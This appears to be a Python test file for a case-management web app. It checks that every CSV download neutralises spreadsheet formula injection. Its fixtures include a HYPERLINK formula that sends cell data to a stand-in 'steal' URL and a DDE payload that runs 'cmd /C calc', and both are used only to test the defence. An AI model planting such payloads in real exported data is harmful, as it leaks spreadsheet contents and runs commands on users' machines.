"""CSV downloads are safe to open in a spreadsheet: every download found in the URL map,
with a case title and organisation names that a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io

from compactcases.downloads import safe_cell
from compactcases.models import Organisation, OrganisationKind, OrganisationType
from compactcases.reports.queries import REPORTS
from tests.app.test_access_matrix import MATRIX, records  # noqa: F401  (a fixture)
from tests.app.test_headers import GET_ROUTES
from tests.app.test_reports import YEAR_QUERY

TITLE = '=HYPERLINK("http://example.net/steal?d="&A1,"Click for details")'
FUNDER = "+SUM(1)"
THIRD_SECTOR = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB_TITLE = "\t=1+2"


def test_cells_that_start_a_formula_are_quoted_and_nothing_is_stripped():
    assert safe_cell("=1+2") == "'=1+2"
    assert safe_cell("+SUM(1)") == "'+SUM(1)"
    assert safe_cell("-2+3") == "'-2+3"
    assert safe_cell("@A1") == "'@A1"
    assert safe_cell("\t=1+2") == "'\t=1+2"
    assert safe_cell("\r=1+2") == "'\r=1+2"
    assert safe_cell("Birmingham City Council") == "Birmingham City Council"
    assert safe_cell(-5) == -5
    assert safe_cell(None) == ""


def test_every_csv_download_neutralises_formulas(anonymous, world, records, make_case, db):  # noqa: F811
    funder = Organisation(
        name=FUNDER,
        kind=OrganisationKind.STATUTORY,
        type=OrganisationType.COUNCIL,
        region=world.region,
        compact=world.bir,
    )
    third_sector = Organisation(
        name=THIRD_SECTOR,
        kind=OrganisationKind.THIRD_SECTOR,
        type=OrganisationType.CHARITY,
        region=world.region,
        compact=world.bir,
    )
    db.session.add_all([funder, third_sector])
    db.session.commit()
    make_case(title=TITLE, funder_id=funder.id, third_sector_id=third_sector.id)
    make_case(title=TAB_TITLE)
    anonymous.sign_in(world.admin)

    downloads = {}
    for rule in GET_ROUTES:
        url = MATRIX[(rule, "GET")][0](world, records["admin"][0])
        # Every report, for a rule that takes a report's name.
        names = REPORTS if rule.startswith("/reports/<name>") else [None]
        for name in names:
            suffix = ".csv" if rule.endswith(".csv") else ""
            named = url if name is None else f"/reports/{name}{suffix}"
            named += ("&" if "?" in named else "?") + YEAR_QUERY
            response = anonymous.get(named)
            if response.mimetype == "text/csv":
                downloads[named] = response.get_data(as_text=True)
    # The case list and each report's download.
    assert {f"/reports/{name}.csv?{YEAR_QUERY}" for name in REPORTS} < set(downloads)

    cells = {
        rule: [c for row in csv.reader(io.StringIO(t)) for c in row]
        for rule, t in downloads.items()
    }
    for rule, found in cells.items():
        risky = [c for c in found if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert risky == [], f"{rule}: {risky}"
    case_cells = cells[f"/cases.csv?{YEAR_QUERY}"]
    assert "'" + TITLE in case_cells
    assert "'" + FUNDER in case_cells
    assert "'" + THIRD_SECTOR in case_cells
    assert "'" + TAB_TITLE in case_cells


def test_each_report_download_quotes_an_organisation_name(anonymous, world, make_case, db):
    funder = Organisation(
        name=FUNDER,
        kind=OrganisationKind.STATUTORY,
        type=OrganisationType.COUNCIL,
        region=world.region,
        compact=world.bir,
    )
    db.session.add(funder)
    db.session.commit()
    make_case(funder_id=funder.id)
    anonymous.sign_in(world.admin)
    text = anonymous.get(f"/reports/funders.csv?{YEAR_QUERY}").get_data(as_text=True)
    assert "'" + FUNDER in [c for row in csv.reader(io.StringIO(text)) for c in row]
